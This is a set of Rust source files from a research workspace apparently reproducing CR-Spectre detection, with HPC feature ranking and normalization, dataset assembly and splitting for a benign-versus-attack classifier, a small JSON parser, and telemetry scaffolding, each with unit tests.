    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Whether the set is empty (never true for constructed sets).
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }
}

/// Ranks events by their Fisher score on a labelled corpus —
/// `(µ₁ − µ₀)² / (σ₁² + σ₀²)` per column — the standard filter-style
/// feature selection the offline 56-event analysis would perform.
/// Returns `(event, score)` pairs sorted best-first.
///
/// `rows` must be extracted with `events` in the same order.
///
/// # Panics
///
/// Panics when shapes disagree or a class is empty.
pub fn rank_by_fisher(
    events: &[HpcEvent],
    rows: &[Vec<f64>],
    labels: &[u8],
) -> Vec<(HpcEvent, f64)> {
    assert_eq!(rows.len(), labels.len(), "rows/labels mismatch");
    let n1 = labels.iter().filter(|&&l| l == 1).count();
    let n0 = labels.len() - n1;
    assert!(n0 > 0 && n1 > 0, "both classes must be present");
    let dim = events.len();
    let mut scores = Vec::with_capacity(dim);
    for (col, &event) in events.iter().enumerate() {
        let (mut m0, mut m1) = (0.0f64, 0.0f64);
        for (row, &label) in rows.iter().zip(labels) {
            assert_eq!(row.len(), dim, "row width mismatch");
            if label == 1 {
                m1 += row[col];
            } else {
                m0 += row[col];
            }
        }
        m0 /= n0 as f64;
        m1 /= n1 as f64;
        let (mut v0, mut v1) = (0.0f64, 0.0f64);
        for (row, &label) in rows.iter().zip(labels) {
            if label == 1 {
                v1 += (row[col] - m1).powi(2);
            } else {
                v0 += (row[col] - m0).powi(2);
            }
        }
        v0 /= n0 as f64;
        v1 /= n1 as f64;
        let denom = (v0 + v1).max(1e-12);
        scores.push((event, (m1 - m0).powi(2) / denom));
    }
    scores.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("finite scores"));
    scores
}

/// Per-column z-score normalizer, fit on training data only.
#[derive(Debug, Clone)]
pub struct Normalizer {
    mean: Vec<f64>,
    std: Vec<f64>,
}

impl Normalizer {
    /// Fits column means and standard deviations on `rows`.
    ///
    /// # Panics
    ///
    /// Panics when `rows` is empty or rows have inconsistent widths.
    pub fn fit(rows: &[Vec<f64>]) -> Normalizer {
        assert!(!rows.is_empty(), "cannot fit a normalizer on no data");
        let dim = rows[0].len();
        let n = rows.len() as f64;
        let mut mean = vec![0.0; dim];
        for row in rows {
            assert_eq!(row.len(), dim, "inconsistent feature width");
            for (m, v) in mean.iter_mut().zip(row) {
                *m += v;
            }
        }
        for m in &mut mean {
            *m /= n;
        }
        let mut var = vec![0.0; dim];
        for row in rows {
            for ((s, v), m) in var.iter_mut().zip(row).zip(&mean) {
                *s += (v - m) * (v - m);
            }
        }
        let std = var
            .into_iter()
            .map(|s| {
                let sd = (s / n).sqrt();
                if sd < 1e-12 {
                    1.0
                } else {
                    sd
                }
            })
            .collect();
        Normalizer { mean, std }
    }

    /// Normalizes one row in place.
    pub fn apply(&self, row: &mut [f64]) {
        for ((v, m), s) in row.iter_mut().zip(&self.mean).zip(&self.std) {
            *v = (*v - m) / s;
        }
    }

    /// Normalizes a whole matrix in place.
    pub fn apply_all(&self, rows: &mut [Vec<f64>]) {
        for row in rows {
            self.apply(row);
        }
    }

    /// Normalizes a flat row-major matrix in place — the same per-row
    /// arithmetic as [`Normalizer::apply`], over contiguous storage.
    ///
    /// # Panics
    ///
    /// Panics when the matrix width differs from the fitted dimension.
    pub fn apply_flat(&self, m: &mut crate::dataset::FlatMatrix) {
        assert_eq!(m.cols(), self.dim(), "flat matrix width mismatch");
        let dim = self.dim();
        if dim == 0 {
            return;
        }
        for row in m.as_mut_slice().chunks_exact_mut(dim) {
            self.apply(row);
        }
    }

    /// The feature dimension.
    pub fn dim(&self) -> usize {
        self.mean.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_sizes_nest() {
        let f16 = FeatureSet::paper(16);
        for size in [1, 2, 4, 8] {
            let f = FeatureSet::paper(size);
            assert_eq!(f.len(), size);
            assert_eq!(f.events(), &f16.events()[..size], "prefix property");
        }
    }

    #[test]
    fn paper_default_is_four() {
        assert_eq!(FeatureSet::paper_default().len(), 4);
    }

    #[test]
    fn paper_one_is_cache_misses() {
        assert_eq!(FeatureSet::paper(1).events(), &[HpcEvent::TotalCacheMiss]);
    }

    #[test]
    fn all_has_56() {
        assert_eq!(FeatureSet::all().len(), 56);
        assert!(!FeatureSet::all().is_empty());
    }

    #[test]
    #[should_panic(expected = "1..=16")]
    fn oversized_paper_set_panics() {
        let _ = FeatureSet::paper(17);
    }

    #[test]
    fn fisher_ranks_the_separating_feature_first() {
        let events = [HpcEvent::TotalCacheMiss, HpcEvent::Cycles];
        // Column 0 separates the classes; column 1 is identical noise.
        let rows = vec![
            vec![0.0, 5.0],
            vec![0.5, 5.1],
            vec![10.0, 5.0],
            vec![10.5, 5.1],
        ];
        let labels = vec![0, 0, 1, 1];
        let ranked = rank_by_fisher(&events, &rows, &labels);
        assert_eq!(ranked[0].0, HpcEvent::TotalCacheMiss);
        assert!(ranked[0].1 > ranked[1].1 * 100.0);
    }

    #[test]
    #[should_panic(expected = "both classes")]
    fn fisher_requires_both_classes() {
        let _ = rank_by_fisher(
            &[HpcEvent::Cycles],
            &[vec![1.0], vec![2.0]],
            &[0, 0],
        );
    }

    #[test]
    fn normalizer_zero_means_unit_std() {
        let rows = vec![vec![1.0, 10.0], vec![3.0, 30.0], vec![5.0, 50.0]];
        let norm = Normalizer::fit(&rows);
        let mut m = rows.clone();
        norm.apply_all(&mut m);
        for col in 0..2 {
            let mean: f64 = m.iter().map(|r| r[col]).sum::<f64>() / 3.0;
            let var: f64 = m.iter().map(|r| (r[col] - mean).powi(2)).sum::<f64>() / 3.0;
            assert!(mean.abs() < 1e-12);
            assert!((var - 1.0).abs() < 1e-9);
        }
        assert_eq!(norm.dim(), 2);
    }

    #[test]
    fn apply_flat_matches_apply_all() {
        use crate::dataset::FlatMatrix;
        let rows = vec![vec![1.0, 10.0], vec![3.0, 30.0], vec![5.0, 50.0]];
        let norm = Normalizer::fit(&rows);
        let mut jagged = rows.clone();
        norm.apply_all(&mut jagged);
        let mut flat = FlatMatrix::from_rows(&rows);
        norm.apply_flat(&mut flat);
        for (i, row) in jagged.iter().enumerate() {
            for (a, b) in row.iter().zip(flat.row(i)) {
                assert_eq!(a.to_bits(), b.to_bits(), "row {i}");
            }
        }
    }

    #[test]
    #[should_panic(expected = "width mismatch")]
    fn apply_flat_rejects_wrong_width() {
        use crate::dataset::FlatMatrix;
        let norm = Normalizer::fit(&[vec![1.0, 2.0]]);
        let mut flat = FlatMatrix::from_rows(&[vec![1.0]]);
        norm.apply_flat(&mut flat);
    }

    #[test]
    fn constant_column_does_not_divide_by_zero() {
        let rows = vec![vec![7.0], vec![7.0]];
        let norm = Normalizer::fit(&rows);
        let mut row = vec![7.0];
        norm.apply(&mut row);
        assert!(row[0].is_finite());
        assert_eq!(row[0], 0.0);
    }
}

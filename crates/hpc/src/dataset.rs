//! Labelled datasets for HID training: assembly from traces, shuffling,
//! and the paper's 70/30 train/test split.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::features::FeatureSet;
use crate::profiler::Trace;

/// Class label of a sampling window.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Label {
    /// Benign application activity.
    Benign,
    /// Attack (Spectre / CR-Spectre) activity.
    Attack,
}

impl Label {
    /// Numeric encoding used by the classifiers (benign 0, attack 1).
    pub fn as_u8(self) -> u8 {
        match self {
            Label::Benign => 0,
            Label::Attack => 1,
        }
    }
}

/// A labelled feature matrix.
#[derive(Debug, Clone, Default)]
pub struct Dataset {
    /// Feature rows.
    pub x: Vec<Vec<f64>>,
    /// Labels (0 benign / 1 attack), parallel to `x`.
    pub y: Vec<u8>,
}

/// A feature matrix in one contiguous row-major allocation.
///
/// The classifier fast paths (crates/hid) consume features as flat
/// matrices; this is the transport type that gets them there without
/// re-boxing every row: [`Dataset::to_flat`] copies the jagged corpus
/// into a single buffer once, [`crate::features::Normalizer::apply_flat`]
/// normalizes it in place, and [`FlatMatrix::into_parts`] hands the
/// buffer over zero-copy.
#[derive(Debug, Clone, PartialEq)]
pub struct FlatMatrix {
    data: Vec<f64>,
    rows: usize,
    cols: usize,
}

impl FlatMatrix {
    /// Copies jagged rows into one flat allocation.
    ///
    /// # Panics
    ///
    /// Panics when rows have inconsistent widths.
    pub fn from_rows(rows: &[Vec<f64>]) -> FlatMatrix {
        let cols = rows.first().map_or(0, Vec::len);
        let mut data = Vec::with_capacity(rows.len() * cols);
        for row in rows {
            assert_eq!(row.len(), cols, "inconsistent feature width");
            data.extend_from_slice(row);
        }
        FlatMatrix { data, rows: rows.len(), cols }
    }

    /// Wraps an existing flat buffer.
    ///
    /// # Panics
    ///
    /// Panics when `data.len() != rows * cols`.
    pub fn from_vec(data: Vec<f64>, rows: usize, cols: usize) -> FlatMatrix {
        assert_eq!(data.len(), rows * cols, "flat buffer does not match shape");
        FlatMatrix { data, rows, cols }
    }

    /// Number of rows.
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Number of columns.
    pub fn cols(&self) -> usize {
        self.cols
    }

    /// One row as a slice.
    pub fn row(&self, i: usize) -> &[f64] {
        &self.data[i * self.cols..(i + 1) * self.cols]
    }

    /// The whole backing buffer, row-major.
    pub fn as_slice(&self) -> &[f64] {
        &self.data
    }

    /// The whole backing buffer, row-major, mutable.
    pub fn as_mut_slice(&mut self) -> &mut [f64] {
        &mut self.data
    }

    /// Surrenders the backing buffer zero-copy: `(data, rows, cols)`.
    pub fn into_parts(self) -> (Vec<f64>, usize, usize) {
        (self.data, self.rows, self.cols)
    }
}

impl Dataset {
    /// Creates an empty dataset.
    pub fn new() -> Dataset {
        Dataset::default()
    }

    /// Appends every window of `trace` with the given label, using
    /// `features` for extraction.
    pub fn push_trace(&mut self, trace: &Trace, label: Label, features: &FeatureSet) {
        for row in trace.feature_rows(features.events()) {
            self.x.push(row);
            self.y.push(label.as_u8());
        }
    }

    /// Appends a single pre-extracted row.
    pub fn push_row(&mut self, row: Vec<f64>, label: Label) {
        self.x.push(row);
        self.y.push(label.as_u8());
    }

    /// The feature rows as one contiguous flat matrix (a single copy,
    /// no per-row boxing).
    ///
    /// # Panics
    ///
    /// Panics when rows have inconsistent widths.
    pub fn to_flat(&self) -> FlatMatrix {
        FlatMatrix::from_rows(&self.x)
    }

    /// Merges another dataset into this one.
    pub fn extend(&mut self, other: &Dataset) {
        self.x.extend(other.x.iter().cloned());
        self.y.extend(other.y.iter().copied());
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.x.len()
    }

    /// Whether the dataset holds no samples.
    pub fn is_empty(&self) -> bool {
        self.x.is_empty()
    }

    /// Count of attack-labelled samples.
    pub fn attack_count(&self) -> usize {
        self.y.iter().filter(|&&l| l == 1).count()
    }

    /// Shuffles samples (seeded, reproducible).
    pub fn shuffle(&mut self, seed: u64) {
        let mut order: Vec<usize> = (0..self.len()).collect();
        order.shuffle(&mut StdRng::seed_from_u64(seed));
        self.x = order.iter().map(|&i| self.x[i].clone()).collect();
        self.y = order.iter().map(|&i| self.y[i]).collect();
    }

    /// Splits into `(train, test)` with `train_fraction` of the samples in
    /// the training set, after a seeded shuffle — the paper's 70/30 split
    /// is `split(0.7, seed)`.
    ///
    /// # Panics
    ///
    /// Panics if `train_fraction` is outside `(0, 1)`.
    pub fn split(mut self, train_fraction: f64, seed: u64) -> (Dataset, Dataset) {
        assert!(
            train_fraction > 0.0 && train_fraction < 1.0,
            "train fraction must be in (0, 1)"
        );
        self.shuffle(seed);
        let cut = ((self.len() as f64) * train_fraction).round() as usize;
        let test_x = self.x.split_off(cut);
        let test_y = self.y.split_off(cut);
        (self, Dataset { x: test_x, y: test_y })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toy(n: usize) -> Dataset {
        let mut d = Dataset::new();
        for i in 0..n {
            let label = if i % 2 == 0 { Label::Benign } else { Label::Attack };
            d.push_row(vec![i as f64], label);
        }
        d
    }

    #[test]
    fn split_70_30() {
        let d = toy(100);
        let (train, test) = d.split(0.7, 42);
        assert_eq!(train.len(), 70);
        assert_eq!(test.len(), 30);
    }

    #[test]
    fn split_is_a_partition() {
        let d = toy(50);
        let (train, test) = d.split(0.7, 1);
        let mut all: Vec<i64> = train
            .x
            .iter()
            .chain(test.x.iter())
            .map(|r| r[0] as i64)
            .collect();
        all.sort_unstable();
        assert_eq!(all, (0..50).collect::<Vec<_>>());
    }

    #[test]
    fn shuffle_is_seeded() {
        let mut a = toy(20);
        let mut b = toy(20);
        a.shuffle(7);
        b.shuffle(7);
        assert_eq!(a.x, b.x);
        let mut c = toy(20);
        c.shuffle(8);
        assert_ne!(a.x, c.x, "different seed, different order");
    }

    #[test]
    fn shuffle_keeps_labels_aligned() {
        let mut d = toy(40);
        d.shuffle(3);
        for (row, &label) in d.x.iter().zip(&d.y) {
            let i = row[0] as usize;
            assert_eq!(label, (i % 2) as u8);
        }
    }

    #[test]
    fn attack_count() {
        let d = toy(10);
        assert_eq!(d.attack_count(), 5);
        assert!(!d.is_empty());
    }

    #[test]
    fn flat_matrix_matches_jagged_rows() {
        let mut d = Dataset::new();
        d.push_row(vec![1.0, 2.0], Label::Benign);
        d.push_row(vec![3.0, 4.0], Label::Attack);
        let flat = d.to_flat();
        assert_eq!((flat.rows(), flat.cols()), (2, 2));
        for (i, row) in d.x.iter().enumerate() {
            assert_eq!(flat.row(i), row.as_slice());
        }
        let (data, rows, cols) = flat.into_parts();
        assert_eq!(data, vec![1.0, 2.0, 3.0, 4.0]);
        assert_eq!((rows, cols), (2, 2));
    }

    #[test]
    fn flat_matrix_of_empty_dataset() {
        let flat = Dataset::new().to_flat();
        assert_eq!((flat.rows(), flat.cols()), (0, 0));
        assert!(flat.as_slice().is_empty());
    }

    #[test]
    #[should_panic(expected = "inconsistent feature width")]
    fn flat_matrix_rejects_ragged_rows() {
        let _ = FlatMatrix::from_rows(&[vec![1.0], vec![1.0, 2.0]]);
    }

    #[test]
    #[should_panic(expected = "in (0, 1)")]
    fn bad_fraction_panics() {
        let _ = toy(10).split(1.0, 0);
    }
}

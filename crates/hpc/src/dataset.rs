//! Labelled datasets for HID training: assembly from traces, shuffling,
//! and the paper's 70/30 train/test split.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::features::FeatureSet;
use crate::profiler::Trace;

/// Class label of a sampling window.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Label {
    /// Benign application activity.
    Benign,
    /// Attack (Spectre / CR-Spectre) activity.
    Attack,
}

impl Label {
    /// Numeric encoding used by the classifiers (benign 0, attack 1).
    pub fn as_u8(self) -> u8 {
        match self {
            Label::Benign => 0,
            Label::Attack => 1,
        }
    }
}

/// A labelled feature matrix.
#[derive(Debug, Clone, Default)]
pub struct Dataset {
    /// Feature rows.
    pub x: Vec<Vec<f64>>,
    /// Labels (0 benign / 1 attack), parallel to `x`.
    pub y: Vec<u8>,
}

impl Dataset {
    /// Creates an empty dataset.
    pub fn new() -> Dataset {
        Dataset::default()
    }

    /// Appends every window of `trace` with the given label, using
    /// `features` for extraction.
    pub fn push_trace(&mut self, trace: &Trace, label: Label, features: &FeatureSet) {
        for row in trace.feature_rows(features.events()) {
            self.x.push(row);
            self.y.push(label.as_u8());
        }
    }

    /// Appends a single pre-extracted row.
    pub fn push_row(&mut self, row: Vec<f64>, label: Label) {
        self.x.push(row);
        self.y.push(label.as_u8());
    }

    /// Merges another dataset into this one.
    pub fn extend(&mut self, other: &Dataset) {
        self.x.extend(other.x.iter().cloned());
        self.y.extend(other.y.iter().copied());
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.x.len()
    }

    /// Whether the dataset holds no samples.
    pub fn is_empty(&self) -> bool {
        self.x.is_empty()
    }

    /// Count of attack-labelled samples.
    pub fn attack_count(&self) -> usize {
        self.y.iter().filter(|&&l| l == 1).count()
    }

    /// Shuffles samples (seeded, reproducible).
    pub fn shuffle(&mut self, seed: u64) {
        let mut order: Vec<usize> = (0..self.len()).collect();
        order.shuffle(&mut StdRng::seed_from_u64(seed));
        self.x = order.iter().map(|&i| self.x[i].clone()).collect();
        self.y = order.iter().map(|&i| self.y[i]).collect();
    }

    /// Splits into `(train, test)` with `train_fraction` of the samples in
    /// the training set, after a seeded shuffle — the paper's 70/30 split
    /// is `split(0.7, seed)`.
    ///
    /// # Panics
    ///
    /// Panics if `train_fraction` is outside `(0, 1)`.
    pub fn split(mut self, train_fraction: f64, seed: u64) -> (Dataset, Dataset) {
        assert!(
            train_fraction > 0.0 && train_fraction < 1.0,
            "train fraction must be in (0, 1)"
        );
        self.shuffle(seed);
        let cut = ((self.len() as f64) * train_fraction).round() as usize;
        let test_x = self.x.split_off(cut);
        let test_y = self.y.split_off(cut);
        (self, Dataset { x: test_x, y: test_y })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toy(n: usize) -> Dataset {
        let mut d = Dataset::new();
        for i in 0..n {
            let label = if i % 2 == 0 { Label::Benign } else { Label::Attack };
            d.push_row(vec![i as f64], label);
        }
        d
    }

    #[test]
    fn split_70_30() {
        let d = toy(100);
        let (train, test) = d.split(0.7, 42);
        assert_eq!(train.len(), 70);
        assert_eq!(test.len(), 30);
    }

    #[test]
    fn split_is_a_partition() {
        let d = toy(50);
        let (train, test) = d.split(0.7, 1);
        let mut all: Vec<i64> = train
            .x
            .iter()
            .chain(test.x.iter())
            .map(|r| r[0] as i64)
            .collect();
        all.sort_unstable();
        assert_eq!(all, (0..50).collect::<Vec<_>>());
    }

    #[test]
    fn shuffle_is_seeded() {
        let mut a = toy(20);
        let mut b = toy(20);
        a.shuffle(7);
        b.shuffle(7);
        assert_eq!(a.x, b.x);
        let mut c = toy(20);
        c.shuffle(8);
        assert_ne!(a.x, c.x, "different seed, different order");
    }

    #[test]
    fn shuffle_keeps_labels_aligned() {
        let mut d = toy(40);
        d.shuffle(3);
        for (row, &label) in d.x.iter().zip(&d.y) {
            let i = row[0] as usize;
            assert_eq!(label, (i % 2) as u8);
        }
    }

    #[test]
    fn attack_count() {
        let d = toy(10);
        assert_eq!(d.attack_count(), 5);
        assert!(!d.is_empty());
    }

    #[test]
    #[should_panic(expected = "in (0, 1)")]
    fn bad_fraction_panics() {
        let _ = toy(10).split(1.0, 0);
    }
}

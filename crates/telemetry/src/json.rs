//! Minimal JSON: enough to *write* the JSONL trace format and to *parse
//! it back* for validation, with no dependencies.
//!
//! Writing goes through [`escape_into`] plus plain number formatting
//! (Rust's `{}` for `f64` prints the shortest round-tripping form).
//! Reading is a small recursive-descent parser over the full JSON
//! grammar — the CI integration test uses it to prove every emitted
//! line is well-formed.

use std::collections::BTreeMap;
use std::fmt;

/// A parsed JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// Any JSON number.
    Num(f64),
    /// String.
    Str(String),
    /// Array.
    Arr(Vec<Value>),
    /// Object (sorted by key).
    Obj(BTreeMap<String, Value>),
}

impl Value {
    /// Member lookup on an object; `None` for other variants.
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Obj(map) => map.get(key),
            _ => None,
        }
    }

    /// The string payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The numeric payload, if this is a number.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(*n),
            _ => None,
        }
    }
}

/// Appends `s` to `out` as a quoted, escaped JSON string literal.
pub fn escape_into(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Appends an `f64` in JSON-legal form (`NaN`/`±inf` become `null`,
/// which JSON cannot represent as numbers).
pub fn number_into(v: f64, out: &mut String) {
    if v.is_finite() {
        use fmt::Write;
        let _ = write!(out, "{v}");
        // `{}` prints integers without a dot; that is still valid JSON.
    } else {
        out.push_str("null");
    }
}

/// Parse error: message plus byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// What went wrong.
    pub message: String,
    /// Byte offset in the input.
    pub offset: usize,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.message, self.offset)
    }
}

impl std::error::Error for ParseError {}

/// Parses one complete JSON document (trailing whitespace allowed,
/// trailing garbage rejected).
pub fn parse(input: &str) -> Result<Value, ParseError> {
    let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
    p.skip_ws();
    let value = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing characters"));
    }
    Ok(value)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, message: &str) -> ParseError {
        ParseError { message: message.to_string(), offset: self.pos }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), ParseError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected {:?}", b as char)))
        }
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value, ParseError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err(&format!("expected {word:?}")))
        }
    }

    fn value(&mut self) -> Result<Value, ParseError> {
        match self.peek() {
            Some(b'n') => self.literal("null", Value::Null),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a JSON value")),
        }
    }

    fn array(&mut self) -> Result<Value, ParseError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Arr(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn object(&mut self) -> Result<Value, ParseError> {
        self.expect(b'{')?;
        let mut map = BTreeMap::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Obj(map));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            map.insert(key, value);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Obj(map));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast path: a run of plain UTF-8 up to the next quote/escape.
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| self.err("invalid UTF-8 in string"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            self.pos += 1;
                            let code = self.hex4()?;
                            // Surrogate pairs: accept and combine, or
                            // reject a lone surrogate.
                            let c = if (0xD800..0xDC00).contains(&code) {
                                if self.bytes[self.pos..].starts_with(b"\\u") {
                                    self.pos += 2;
                                    let low = self.hex4()?;
                                    let combined = 0x10000
                                        + ((code - 0xD800) << 10)
                                        + (low.checked_sub(0xDC00))
                                            .ok_or_else(|| self.err("invalid low surrogate"))?;
                                    char::from_u32(combined)
                                } else {
                                    None
                                }
                            } else {
                                char::from_u32(code)
                            };
                            out.push(c.ok_or_else(|| self.err("invalid \\u escape"))?);
                            continue;
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.pos += 1;
                }
                _ => return Err(self.err("unterminated string")),
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, ParseError> {
        let chunk = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or_else(|| self.err("truncated \\u escape"))?;
        let s = std::str::from_utf8(chunk).map_err(|_| self.err("bad \\u escape"))?;
        let code = u32::from_str_radix(s, 16).map_err(|_| self.err("bad \\u escape"))?;
        self.pos += 4;
        Ok(code)
    }

    fn number(&mut self) -> Result<Value, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-')) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).expect("ascii");
        text.parse::<f64>()
            .map(Value::Num)
            .map_err(|_| self.err("invalid number"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_scalars() {
        assert_eq!(parse("null").unwrap(), Value::Null);
        assert_eq!(parse("true").unwrap(), Value::Bool(true));
        assert_eq!(parse(" false ").unwrap(), Value::Bool(false));
        assert_eq!(parse("-12.5e2").unwrap(), Value::Num(-1250.0));
        assert_eq!(parse("\"a\\nb\"").unwrap(), Value::Str("a\nb".into()));
    }

    #[test]
    fn parses_nested_structures() {
        let v = parse(r#"{"a":[1,2,{"b":"x"}],"c":null}"#).unwrap();
        let arr = v.get("a").unwrap();
        match arr {
            Value::Arr(items) => {
                assert_eq!(items.len(), 3);
                assert_eq!(items[2].get("b").unwrap().as_str(), Some("x"));
            }
            other => panic!("expected array, got {other:?}"),
        }
        assert_eq!(v.get("c"), Some(&Value::Null));
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse("").is_err());
        assert!(parse("{").is_err());
        assert!(parse("[1,]").is_err());
        assert!(parse("\"unterminated").is_err());
        assert!(parse("12 34").is_err());
        assert!(parse("nul").is_err());
    }

    #[test]
    fn escape_round_trips() {
        let nasty = "quote\" slash\\ newline\n tab\t ctrl\u{1} unicode→é";
        let mut line = String::new();
        escape_into(nasty, &mut line);
        assert_eq!(parse(&line).unwrap(), Value::Str(nasty.to_string()));
    }

    #[test]
    fn surrogate_pair_round_trips() {
        assert_eq!(parse("\"\\ud83d\\ude00\"").unwrap(), Value::Str("😀".into()));
        assert!(parse("\"\\ud83d\"").is_err(), "lone surrogate rejected");
    }

    #[test]
    fn number_into_handles_non_finite() {
        let mut s = String::new();
        number_into(f64::NAN, &mut s);
        assert_eq!(s, "null");
        s.clear();
        number_into(2.5, &mut s);
        assert_eq!(s, "2.5");
    }
}

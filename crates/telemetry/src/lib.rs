//! # cr-spectre-telemetry
//!
//! Zero-dependency structured telemetry for the CR-Spectre workspace:
//! hierarchical **spans** with monotonic timing and key/value fields,
//! **counters** and **histograms**, and pluggable **sinks** — a
//! thread-safe JSONL trace writer for machine consumption and a human
//! summary report for campaign end.
//!
//! The paper's whole premise is observability (HPC traces are both the
//! attack's cover and the HID's signal); this crate is the equivalent
//! instrument pointed at our *own* reproduction: where do the cycles of
//! a fig5 campaign go, how long does each trial take, how hard does the
//! speculative core squash, how many epochs until a detector converges.
//!
//! ## Design constraints
//!
//! * **Off by default, near-zero when off.** All entry points first read
//!   one relaxed [`AtomicBool`]; with no recorder installed they return
//!   immediately without allocating or taking a lock.
//! * **Observation only.** The crate has no dependencies (not even the
//!   vendored `rand`) and no API that could feed back into the
//!   simulation: it never touches an RNG, a seed, or any value a driver
//!   computes. `crates/core/tests/parallel_equivalence.rs` locks in that
//!   campaign results are bit-identical with telemetry enabled.
//! * **Thread-safe.** Spans may open and close on campaign worker
//!   threads; sinks serialize internally.
//!
//! ## Example
//!
//! ```
//! use cr_spectre_telemetry as telemetry;
//! use telemetry::sink::MemorySink;
//!
//! let sink = MemorySink::shared();
//! if telemetry::install(vec![Box::new(sink.clone())]) {
//!     {
//!         let mut span = telemetry::span("demo.work");
//!         span.field("items", 3u64);
//!         telemetry::counter("demo.widgets", 3);
//!         telemetry::histogram("demo.latency_us", 12.5);
//!     }
//!     let summary = telemetry::shutdown().expect("was installed");
//!     assert_eq!(summary.counters["demo.widgets"], 3);
//!     assert_eq!(sink.spans().len(), 1);
//! }
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod json;
pub mod sink;
pub mod summary;

use std::cell::RefCell;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, RwLock};
use std::time::Instant;

use sink::Sink;
use summary::Summary;

// ---------------------------------------------------------------------
// Field values
// ---------------------------------------------------------------------

/// A span field value: the small scalar vocabulary JSONL can carry.
#[derive(Debug, Clone, PartialEq)]
pub enum FieldValue {
    /// Unsigned integer.
    U64(u64),
